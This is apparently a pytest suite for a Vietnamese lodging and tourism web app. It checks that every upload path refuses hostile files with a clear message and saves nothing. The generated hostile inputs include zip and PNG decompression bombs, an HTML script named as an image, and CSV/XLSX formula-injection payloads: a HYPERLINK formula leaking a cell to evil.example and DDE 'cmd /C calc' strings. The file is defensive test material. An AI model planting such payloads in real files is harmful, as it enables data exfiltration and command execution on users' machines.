"""Hostile files fed to every upload path: each gets a clear message and nothing is saved.

Upload paths: the hotel's stay upload (web), `manage.py import` with the stay, establishment
and destination resources, django-import-export's format classes with the same three
resources (what its admin import views use), the destinations import in the Wagtail admin,
the police watchlist import, and Wagtail image uploads (single and multiple). Every hostile
file is generated here (openpyxl, zipfile, Pillow); no binary is committed. Messages are
checked in Vietnamese, the default language of every path.
"""

import csv
import io
import struct
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass, field
from datetime import timedelta

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from PIL import Image as PILImage

from cms import spreadsheets
from lodging.models import Establishment, Stay
from lodging.police.models import WatchlistEntry
from lodging.resources import EstablishmentResource, StayResource
from tests.auth import sign_in
from tests.hardening.xlsx_files import (
    bad_crc_xlsx,
    broken_deflate_xlsx,
    relocated_sheet_bomb,
)
from tourism.models import AttractionPage, DestinationPage
from tourism.resources import COLUMNS as PLACE_COLUMNS
from tourism.resources import DestinationResource

pytestmark = [pytest.mark.django_db, pytest.mark.hostile_file]

BIG_ROWS = 10_000


# -- what each upload path takes -----------------------------------------------------------
def stay_row(index: int) -> dict:
    now = timezone.localtime()
    return {"establishment_code": "SAPA-0001", "full_name": f"Nguyễn Văn Ấn {index}",
            "sex": "M", "date_of_birth": "1990-05-17", "document_type": "cccd",
            "document_number": f"0100901{index:05d}", "nationality": "VNM",
            "address": "Phường Cam Đường, Lào Cai", "reason": "du lịch", "room": "101",
            "arrival": (now - timedelta(hours=1)).strftime("%Y-%m-%d %H:%M"),
            "expected_departure": (now + timedelta(days=2)).strftime("%Y-%m-%d %H:%M")}


def establishment_row(index: int) -> dict:
    return {"code": f"YTY-{index:05d}", "name": f"Nhà nghỉ Ấn {index}", "kind": "guesthouse",
            "commune": "Xã Y Tý", "address": "Thôn Hồng Ngài", "rooms": "6",
            "phone": "+84 214 3871 234", "latitude": "22.6426", "longitude": "103.6125"}


def place_row(index: int) -> dict:
    return {"slug": f"ban-an-{index}", "kind": "village", "title_vi": f"Bản Ấn {index}",
            "title_en": f"An village {index}", "summary_vi": "Bản người Mông",
            "summary_en": "A Hmong village", "commune": "Phường Sa Pa",
            "latitude": "22.3293", "longitude": "103.8317", "tags": "bản làng"}


def watchlist_row(index: int) -> dict:
    return {"full_name": f"Nguyễn Văn Ấn {index}", "reason": "Lệnh truy nã số 12",
            "document_type": "passport", "document_number": f"P{index:07d}"}


@dataclass
class UploadPath:
    name: str
    columns: list[str]
    row: callable
    bad_value: dict  # one cell that the importer (not the reader) refuses
    saved: callable
    upload: callable
    name_column: str
    names_row: callable = field(default=lambda number: str(number))


def messages_of(response) -> str:
    texts = [str(m) for m in get_messages(response.wsgi_request)]
    return "\n".join(texts) + "\n" + response.content.decode(errors="replace")


def _stays_web(context, name, content):
    client = sign_in(context["client"], context["receptionist"])
    response = client.post(reverse("lodging:upload"),
                           {"file": _named(content, name)})
    assert response.status_code == 200
    return messages_of(response)


def _command(resource):
    def run(context, name, content):
        path = context["tmp_path"] / name
        path.write_bytes(content)
        err = io.StringIO()
        try:
            call_command("import", resource, str(path), "--no-input", stderr=err)
        except CommandError as error:
            return str(error)
        except SystemExit as exit_info:
            assert exit_info.code == 1
            return err.getvalue()
        return "IMPORTED\n" + err.getvalue()
    return run


def _formats(resource_class):
    """What django-import-export's admin does: its configured format, then the resource."""
    def run(context, name, content):
        from django.conf import settings
        extension = name.rpartition(".")[2]
        format_class = next((f for f in settings.IMPORT_EXPORT_FORMATS
                             if f().get_extension() == extension), None)
        if format_class is None:
            return f"no import format for .{extension}"
        try:
            dataset = format_class().create_dataset(content)
        except spreadsheets.SpreadsheetError as error:
            return str(error)
        result = resource_class().import_data(dataset, dry_run=False, use_transactions=True)
        if not result.has_errors() and not result.has_validation_errors():
            return "IMPORTED"
        return "\n".join([str(e.error) for e in result.base_errors] + [
            f"Line number: {n} - {e.error}" for n, errs in result.row_errors() for e in errs]
            + [f"Line number: {row.number} - {row.error_dict}" for row in result.invalid_rows])
    return run


def _destinations_admin(context, name, content):
    client = sign_in(context["client"], context["admin_user"])
    response = client.post(reverse("tourism_import"), {"file": _named(content, name)})
    assert response.status_code == 200
    return messages_of(response)


def _watchlist_web(context, name, content):
    client = sign_in(context["client"], context["officer"])
    response = client.post(reverse("police:watchlist_import"),
                           {"file": _named(content, name)})
    assert response.status_code == 302
    return "\n".join(str(m) for m in get_messages(response.wsgi_request))


def _named(content, name):
    upload = io.BytesIO(content)
    upload.name = name
    return upload


def _places_in_vietnamese():
    """Each imported place is a Vietnamese page and its English translation."""
    return (DestinationPage.objects.filter(locale__language_code="vi").count()
            + AttractionPage.objects.filter(locale__language_code="vi").count())


STAY_CSV_COLUMNS = list(stay_row(0))
PATHS = {
    "stays-web": UploadPath("stays-web", STAY_CSV_COLUMNS, stay_row,
                            {"arrival": "ngày mai"}, lambda: Stay.objects.count(), _stays_web,
                            "full_name"),
    "stays-command": UploadPath("stays-command", STAY_CSV_COLUMNS, stay_row,
                                {"arrival": "ngày mai"}, lambda: Stay.objects.count(),
                                _command("lodging.resources.StayResource"), "full_name",
                                names_row=lambda number: f"Line number: {number - 1}"),
    "stays-import-export-format": UploadPath(
        "stays-import-export-format", STAY_CSV_COLUMNS, stay_row, {"arrival": "ngày mai"},
        lambda: Stay.objects.count(), _formats(StayResource), "full_name",
        names_row=lambda number: f"Line number: {number - 1}"),
    "establishments-command": UploadPath(
        "establishments-command", list(establishment_row(0)), establishment_row,
        {"kind": "castle"}, lambda: Establishment.objects.exclude(code="SAPA-0001").count(),
        _command("lodging.resources.EstablishmentResource"), "name",
        names_row=lambda number: f"Line number: {number - 1}"),
    "establishments-import-export-format": UploadPath(
        "establishments-import-export-format", list(establishment_row(0)),
        establishment_row, {"kind": "castle"},
        lambda: Establishment.objects.exclude(code="SAPA-0001").count(),
        _formats(EstablishmentResource), "name",
        names_row=lambda number: f"Line number: {number - 1}"),
    "destinations-admin": UploadPath(
        "destinations-admin", list(PLACE_COLUMNS), place_row, {"commune": "Hà Nội"},
        lambda: _places_in_vietnamese(),
        _destinations_admin, "title_vi", names_row=lambda number: f"Dòng {number - 1}"),
    "destinations-import-export-format": UploadPath(
        "destinations-import-export-format", list(PLACE_COLUMNS), place_row,
        {"commune": "Hà Nội"}, lambda: _places_in_vietnamese(),
        _formats(DestinationResource), "title_vi",
        names_row=lambda number: f"Line number: {number - 1}"),
    "destinations-command": UploadPath(
        "destinations-command", list(PLACE_COLUMNS), place_row, {"commune": "Hà Nội"},
        lambda: _places_in_vietnamese(),
        _command("tourism.resources.DestinationResource"), "title_vi",
        names_row=lambda number: f"Line number: {number - 1}"),
    "watchlist-web": UploadPath(
        "watchlist-web", list(watchlist_row(0)), watchlist_row, {"reason": ""},
        lambda: WatchlistEntry.objects.count(), _watchlist_web, "full_name",
        names_row=lambda number: f"Dòng {number}"),
}


@pytest.fixture
def context(client, tmp_path, homestay, receptionist, sapa_officer, django_user_model):
    from tourism import services
    services.ensure_sections()
    admin_user = django_user_model.objects.create_superuser("quan-tri", password="x" * 12)
    return {"client": client, "tmp_path": tmp_path, "receptionist": receptionist,
            "officer": sapa_officer, "admin_user": admin_user}


# -- hostile files -------------------------------------------------------------------------
def csv_bytes(columns, rows, encoding="utf-8", delimiter=",") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return out.getvalue().encode(encoding)


def xlsx_bytes(columns, rows, formula_at=None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(columns)
    for row in rows:
        sheet.append([row.get(column, "") for column in columns])
    if formula_at:
        sheet[formula_at] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A zip whose sheet inflates 1,000 times: 60 MB of zeros from ~60 kB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(60):
                sheet.write(chunk)
    return out.getvalue()


def many_entries_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index in range(2000):
            archive.writestr(f"xl/media/part{index}.xml", "<x/>")
    return out.getvalue()


def cp1258_bytes(text: str) -> bytes:
    """Windows-1258 as Vietnamese Excel writes it: base letters plus combining tone marks."""
    out = bytearray()
    for char in text:
        try:
            out += char.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        base, *marks = unicodedata.normalize("NFD", char)
        # the vowel keeps its own mark precomposed (â, ê, ơ, ư), the tone mark combines
        for mark in marks:
            joined = unicodedata.normalize("NFC", base + mark)
            if len(joined) == 1 and joined.encode("cp1258", errors="ignore"):
                base = joined
                marks.remove(mark)
                break
        out += (base + "".join(marks)).encode("cp1258")
    return bytes(out)


@dataclass
class Case:
    id: str
    build: callable  # (path) -> (file name, bytes)
    expect: callable  # (path) -> list of fragments the message must hold
    imported: bool = False  # an accepted file (the encodings): saved, names intact


def _good(path, count=2):
    return [path.row(index) for index in range(count)]


def _bad_last(path, count):
    rows = _good(path, count)
    rows[-1] = {**rows[-1], **path.bad_value}
    return rows


def _formula_last(path, count):
    rows = _good(path, count)
    rows[-1] = {**rows[-1], path.columns[1]: "=cmd|' /C calc'!A0"}
    return rows


def _column(path, index):
    return openpyxl.utils.get_column_letter(index + 1)


def _guarded_bomb(path):
    """The relocated-sheet bomb, handed to an upload path only once the reader's guard is
    seen refusing it without any reader: were the guard gone, calamine would abort pytest
    itself (the abort is proven in a child process in test_xlsx_reader.py)."""
    content = relocated_sheet_bomb(path.columns, _good(path))
    try:
        spreadsheets._inspect_xlsx(content)
    except spreadsheets.SpreadsheetError:
        return "data.xlsx", content
    pytest.fail("the XLSX guard let the relocated-sheet bomb through; not uploading it")


XLSX_UNREADABLE = "Đây không phải là tệp XLSX đọc được"
CASES = [
    Case("corrupted-xlsx", lambda p: ("data.xlsx", b"PK\x03\x04" + bytes(range(256)) * 40),
         lambda p: [XLSX_UNREADABLE]),
    Case("truncated-xlsx", lambda p: ("data.xlsx", (lambda b: b[:len(b) * 2 // 3])(
        xlsx_bytes(p.columns, _good(p, 50)))), lambda p: [XLSX_UNREADABLE]),
    Case("not-a-zip-xlsx", lambda p: ("data.xlsx", b"<html>not a workbook</html>"),
         lambda p: [XLSX_UNREADABLE]),
    Case("zip-bomb-xlsx", lambda p: ("data.xlsx", zip_bomb()), lambda p: ["bom zip"]),
    Case("relocated-sheet-bomb-xlsx", _guarded_bomb, lambda p: ["dòng 1048576"]),
    Case("bad-crc-xlsx", lambda p: ("data.xlsx", bad_crc_xlsx(p.columns, _good(p))),
         lambda p: [XLSX_UNREADABLE]),
    Case("broken-deflate-xlsx", lambda p: ("data.xlsx", broken_deflate_xlsx(
        p.columns, _good(p))), lambda p: [XLSX_UNREADABLE]),
    Case("too-many-entries-xlsx", lambda p: ("data.xlsx", many_entries_zip()),
         lambda p: ["2000 phần"]),
    Case("over-size-limit-csv", lambda p: ("data.csv", csv_bytes(
        p.columns, _good(p, 1)) + b"#" * (5 * 1024 * 1024)), lambda p: ["lớn hơn", "MB"]),
    # Django's own form check ("Tập tin được gửi là rỗng.") answers first on the web paths.
    Case("empty-file", lambda p: ("data.csv", b""), lambda p: [("Tệp trống", "rỗng")]),
    # django-import-export answers for a format it does not know on its own paths.
    Case("wrong-extension", lambda p: ("data.pdf", b"%PDF-1.4"),
         lambda p: [(".xlsx", "format")]),
    Case("undecodable-csv", lambda p: ("data.csv", csv_bytes(p.columns, [])
                                       + "汉字姓名,北京".encode("gbk") * 20),
         lambda p: ["CSV UTF-8"]),
    Case("binary-csv", lambda p: ("data.csv", bytes(range(256)) * 8),
         lambda p: ["CSV UTF-8"]),
    Case("missing-column", lambda p: ("data.csv", csv_bytes(
        [c for c in p.columns if c != p.columns[1]], _good(p))),
         lambda p: [p.columns[1]]),
    Case("misspelt-column", lambda p: ("data.csv", csv_bytes(
        [c + "x" if c == p.columns[1] else c for c in p.columns], _good(p))),
         lambda p: [p.columns[1], p.columns[1] + "x"]),
    Case("repeated-column", lambda p: ("data.csv", csv_bytes(
        p.columns + [p.columns[1]], _good(p))), lambda p: [p.columns[1]]),
    Case("formula-cell-xlsx", lambda p: ("data.xlsx", xlsx_bytes(
        p.columns, _good(p, 3), formula_at="C4")),
         lambda p: ["công thức", "dòng 4, cột C"]),
    Case("formula-text-csv", lambda p: ("data.csv", csv_bytes(p.columns, _formula_last(p, 3))),
         lambda p: ["công thức", "dòng 4, cột B"]),
    Case("dde-formula-csv", lambda p: ("data.csv", csv_bytes(p.columns, [
        {**p.row(0), p.columns[2]: "-2+3+cmd|' /C calc'!A0"}])),
         lambda p: ["công thức", "dòng 2, cột C"]),
    Case("10000-rows-formula-at-the-end", lambda p: ("data.csv", csv_bytes(
        p.columns, _formula_last(p, BIG_ROWS))), lambda p: ["công thức", f"dòng {BIG_ROWS + 1}"]),
    Case("10000-rows-bad-value-at-the-end", lambda p: ("data.csv", csv_bytes(
        p.columns, _bad_last(p, BIG_ROWS))), lambda p: [p.names_row(BIG_ROWS + 1)]),
    # Accepted files: the encodings Vietnamese spreadsheets arrive in, decoded, never mojibake.
    Case("utf8-csv", lambda p: ("data.csv", csv_bytes(p.columns, _good(p))),
         lambda p: [], imported=True),
    Case("utf8-bom-csv", lambda p: ("data.csv", csv_bytes(p.columns, _good(p), "utf-8-sig")),
         lambda p: [], imported=True),
    Case("utf16-le-csv", lambda p: ("data.csv", csv_bytes(p.columns, _good(p), "utf-16")),
         lambda p: [], imported=True),
    Case("utf16-be-csv", lambda p: ("data.csv", b"\xfe\xff" + csv_bytes(
        p.columns, _good(p), "utf-16-be")), lambda p: [], imported=True),
    Case("windows-1258-semicolon-csv", lambda p: ("data.csv", cp1258_bytes(
        csv_bytes(p.columns, _good(p), delimiter=";").decode())), lambda p: [], imported=True),
]


def _saved_names(path):
    if path.name.startswith("stays"):
        return set(Stay.objects.values_list("full_name", flat=True))
    if path.name.startswith("establishments"):
        return set(Establishment.objects.values_list("name", flat=True))
    if path.name.startswith("destinations"):
        return set(DestinationPage.objects.values_list("title", flat=True)) | set(
            AttractionPage.objects.values_list("title", flat=True))
    return set(WatchlistEntry.objects.values_list("full_name", flat=True))


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
@pytest.mark.parametrize("path_name", list(PATHS))
def test_hostile_file(path_name, case, context):
    path = PATHS[path_name]
    before = path.saved()
    name, content = case.build(path)
    message = path.upload(context, name, content)
    if case.imported:
        if path_name == "stays-web":  # the web upload previews first; confirm it
            context["client"].post(reverse("lodging:upload"),
                                   {"confirm": _digest(message), "ext": "csv"})
        assert path.saved() == before + 2, message
        expected = {path.row(i)[path.name_column] for i in range(2)}
        assert expected <= _saved_names(path), (expected, _saved_names(path))
        return
    assert path.saved() == before, message
    assert "IMPORTED" not in message, message
    for fragment in case.expect(path):
        alternatives = fragment if isinstance(fragment, tuple) else (fragment,)
        assert any(f in message for f in alternatives), \
            f"{fragment!r} not in {message[:3000]!r}"


def _digest(html: str) -> str:
    import re
    found = re.search(r'name="confirm" value="([0-9a-f]{64})"', html)
    assert found, html[:3000]
    return found.group(1)


# -- images --------------------------------------------------------------------------------
def png_bytes(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    PILImage.new("RGB", size, (200, 40, 40)).save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    PILImage.effect_noise(size, 60).convert("RGB").save(out, "JPEG", quality=90)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width × height pixels (a decompression bomb)."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 4096)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


IMAGE_CASES = {
    "text-named-jpg": ("photo.jpg", b"Just some text, not a photo at all.\n" * 20),
    "html-named-png": ("photo.png", b"<html><script>alert(1)</script></html>"),
    "truncated-jpeg": ("photo.jpg", jpeg_bytes((400, 300))[:2000]),
    "truncated-png": ("photo.png", png_bytes((400, 300))[:300]),
    "bomb-over-wagtail-limit": ("photo.png", png_claiming(10_000, 10_000)),
    "bomb-over-pillow-limit": ("photo.png", png_claiming(30_000, 30_000)),
    "over-upload-size": ("photo.png", png_bytes() + b"\0" * (10 * 1024 * 1024 + 1)),
}


def _media_files(root):
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.fixture
def image_admin(client, django_user_model, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    admin_user = django_user_model.objects.create_superuser("bien-tap", password="x" * 12)
    return sign_in(client, admin_user)


def _upload_image(client, how, name, content):
    from wagtail.models import Collection
    root = Collection.get_first_root_node()
    if how == "single":
        response = client.post(reverse("wagtailimages:add"), {
            "title": "Ảnh thử", "file": _named(content, name), "collection": root.pk})
        form = response.context["form"] if response.context and "form" in response.context \
            else None
        return response, " ".join(str(e) for e in form.errors.get("file", [])) if form else ""
    response = client.post(reverse("wagtailimages:add_multiple"), {
        "files[]": _named(content, name), "collection": root.pk})
    data = response.json()
    return response, "" if data.get("success") else data.get("error_message", "?")


@pytest.mark.parametrize("case", list(IMAGE_CASES))
@pytest.mark.parametrize("how", ["single", "multiple"])
def test_hostile_image(how, case, image_admin, settings):
    from wagtail.images import get_image_model
    name, content = IMAGE_CASES[case]
    response, error = _upload_image(image_admin, how, name, content)
    assert response.status_code == 200
    assert error, "the upload was accepted"
    assert get_image_model().objects.count() == 0
    assert _media_files(settings.MEDIA_ROOT) == []


@pytest.mark.parametrize("how", ["single", "multiple"])
def test_a_real_photo_is_accepted_on_the_same_path(how, image_admin, settings):
    from wagtail.images import get_image_model
    response, error = _upload_image(image_admin, how, "photo.jpg", jpeg_bytes())
    assert error == "" and response.status_code in (200, 302)
    assert get_image_model().objects.count() == 1
    assert _media_files(settings.MEDIA_ROOT)


# -- the national portal's own list, uploaded to reconcile a batch ---------------------------
# The reconciliation reads the portal's list through the same reader; it imports no rows,
# so only the cases about the file itself apply: each is a clear message, and the batch is
# neither verified nor failed by it.
NATIONAL_COLUMNS = ["STT", "Họ và tên", "Số giấy tờ", "Ngày đến"]
NATIONAL_CASES = {"corrupted-xlsx", "truncated-xlsx", "not-a-zip-xlsx", "zip-bomb-xlsx",
                  "relocated-sheet-bomb-xlsx", "bad-crc-xlsx", "broken-deflate-xlsx",
                  "too-many-entries-xlsx", "over-size-limit-csv", "undecodable-csv",
                  "binary-csv", "formula-cell-xlsx", "formula-text-csv", "dde-formula-csv"}


def _national_row(index: int) -> dict:
    return {"STT": str(index + 1), "Họ và tên": f"Nguyễn Văn Ấn {index}",
            "Số giấy tờ": f"0100901{index:05d}", "Ngày đến": "28/11/2026"}


@pytest.mark.parametrize("case", [case for case in CASES if case.id in NATIONAL_CASES],
                         ids=lambda case: case.id)
def test_hostile_portal_list_for_the_national_reconciliation(case, context, homestay):
    from lodging.national import services as national
    from lodging.national.models import BatchKind, BatchState, NationalReconciliation
    from tests.lodging.national_support import NOW, TODAY, register, vietnamese

    receptionist = context["receptionist"]
    register(receptionist, homestay, vietnamese())
    batch = national.create_batch(user=receptionist, establishment=homestay,
                                  kind=BatchKind.VIETNAMESE, date_from=TODAY, date_to=TODAY,
                                  now=NOW)
    path = UploadPath("national-reconcile", NATIONAL_COLUMNS, _national_row,
                      {"Ngày đến": "?"}, NationalReconciliation.objects.count,
                      None, "Họ và tên")
    name, content = case.build(path)
    client = sign_in(context["client"], receptionist)
    response = client.post(reverse("lodging:national:reconcile", args=[batch.pk]),
                           {"portal_list": _named(content, name)}, follow=True)
    assert response.status_code == 200
    message = messages_of(response)
    batch.refresh_from_db()
    assert batch.state == BatchState.EXPORTED
    assert NationalReconciliation.objects.count() == 0
    for fragment in case.expect(path):
        alternatives = fragment if isinstance(fragment, tuple) else (fragment,)
        assert any(f in message for f in alternatives), \
            f"{fragment!r} not in {message[:3000]!r}"
